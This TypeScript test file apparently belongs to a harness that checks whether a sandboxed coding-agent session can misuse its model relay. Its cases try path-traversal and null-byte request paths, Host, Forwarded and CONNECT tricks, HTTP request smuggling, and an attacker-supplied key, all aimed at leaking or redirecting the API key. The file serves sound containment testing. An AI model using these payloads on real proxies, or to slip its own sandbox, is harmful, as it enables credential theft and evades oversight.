import { judgeWays, held, escaped, untried, unseen, type Attempt, type Inside, type Seen } from "../attempt.ts";
import { holdsCanary } from "../canaries.ts";
import { formatRequest, sendRaw, statusOf, type Request } from "./raw-http.ts";

/** A key of its own that an attacker brings along, to have the work paid to another account. */
const BROUGHT = "key-of-an-attacker";

/** The one way out that a session is given: its model, over the relay and the credential worker. */
export const MODEL: readonly Attempt[] = [
  {
    id: "see-key-in-answer",
    needs: "session",
    rows: ["A47"],
    title: "have the model's endpoint send back the key that it was asked with, plain and encoded",
    expected: "the answer comes without the key",
    attempt: (inside) =>
      withModel(inside, async ({ ask }) => {
        const answer = await ask({});
        if (holdsCanary(answer ?? "", inside.targets.canaries)) return escaped("the key came back");
        return held("the answer came without it");
      }),
  },
  {
    id: "ask-for-more",
    needs: "session",
    rows: ["A40", "A41", "A47"],
    title: "ask its provider for files, other paths and other methods, spelled in many ways",
    expected: "nothing but the model's own calls goes on",
    attempt: (inside) =>
      withModel(inside, async ({ ask, root }) => {
        const ways = MORE.map(([method, path]) => ({ method, target: `${root}${path}` }));
        const answers = await Promise.all(ways.map((each) => ask(each)));
        return judgeWays(
          answers.map((answer, index) => ({
            way: `${ways[index]?.method} ${MORE[index]?.[1]}`,
            through: statusOf(answer) === 200,
            seen: `status ${statusOf(answer)}`,
          })),
        );
      }),
    witness({ received }) {
      const asked = received.filter(
        (line) => line.startsWith("upstream ") && !line.startsWith("upstream POST /v1/messages "),
      );
      return asked.length === 0 ? null : `the provider was asked: ${asked.join("; ").slice(0, 200)}`;
    },
  },
  {
    id: "ask-another-host",
    needs: "session",
    rows: ["A40", "A47"],
    title: "have its key carried to another host: as a proxy's client, by CONNECT, by Host, by a smuggled request",
    expected: "nothing arrives there",
    attempt: (inside) =>
      withModel(inside, async ({ ask, root, port, key }) => {
        const there = `127.0.0.1:${inside.targets.model?.elsewhere}`;
        const smuggled = formatRequest({ target: "/", headers: { Host: there, "x-api-key": key } });
        await Promise.all([
          ask({ target: `http://${there}/v1/messages` }),
          ask({ target: `${root}//${there}/v1/messages` }),
          ask({ target: `${root}/@${there}/v1/messages` }),
          ask({ headers: { Host: there } }),
          ask({ headers: { Host: `127.0.0.1:${port}`, "X-Forwarded-Host": there, Forwarded: `host=${there}` } }),
          ask({ method: "CONNECT", target: there }),
          ask({ headers: { "Content-Length": "0" }, body: smuggled }),
          ask({ headers: { "Transfer-Encoding": "chunked" }, body: `0\r\n\r\n${smuggled}` }),
        ]);
        return unseen("asked in eight ways");
      }),
    witness: ({ received }) => (received.includes("elsewhere") ? "another host was asked" : null),
  },
  {
    id: "bring-own-key",
    needs: "session",
    rows: ["A41"],
    title: "bring a key of its own, to send what it knows into another account",
    expected: "the key does not arrive",
    attempt: (inside) =>
      withModel(inside, async ({ ask, key }) => {
        await Promise.all([
          ask({ headers: { "x-api-key": BROUGHT } }),
          ask({ headers: { "x-api-key": key, Authorization: `Bearer ${BROUGHT}` } }),
          ask({ headers: { "x-api-key": key, Cookie: BROUGHT, "anthropic-organization": BROUGHT } }),
        ]);
        return unseen("asked in three ways");
      }),
    witness: ({ received }) => (received.some((line) => line.includes(BROUGHT)) ? "the provider got it" : null),
  },
];

const MORE: readonly (readonly [method: string, path: string])[] = [
  ["GET", "/v1/files"],
  ["POST", "/v1/messages/batches"],
  ["DELETE", "/v1/messages"],
  ["POST", "/v1/messages/../files"],
  ["POST", "/v1/messages/%2e%2e/files"],
  ["POST", "/v1/messages%00/files"],
  ["POST", "/v1/messages;/../files"],
  ["GET", "/v1/organizations/api_keys"],
  ["GET", "/v1\\files"],
];

interface Model {
  readonly port: number;
  /** Of the path of its address. */
  readonly root: string;
  readonly key: string;
  /** The call that a coding agent would make, changed. */
  ask(change: Partial<Request>): Promise<string | null>;
}

async function withModel(inside: Inside, act: (model: Model) => Promise<Seen>): Promise<Seen> {
  const { targets, environment } = inside;
  const address = environment["HARNESS_MODEL_URL"];
  const key = environment[targets.model?.keyVariable ?? ""];
  if (!targets.model || address === undefined || key === undefined) return untried("it was given no model");
  const { port, pathname, host } = new URL(address);
  const root = pathname.replace(/\/$/, "");
  const body = JSON.stringify({ model: "m", max_tokens: 1, messages: [{ role: "user", content: "Hello." }] });
  const ask = ({ headers, ...change }: Partial<Request>) =>
    sendRaw(
      Number(port),
      formatRequest({
        target: `${root}/v1/messages`,
        body,
        ...change,
        headers: { Host: host, "x-api-key": key, "Content-Type": "application/json", ...headers },
      }),
    );
  // Where nobody answers, nothing arrives either, whatever is asked.
  const plain = statusOf(await ask({}));
  if (plain !== 200) return untried(plain === 0 ? "nobody answers for the model" : `the model answers ${plain}`);
  return act({ port: Number(port), root, key, ask });
}
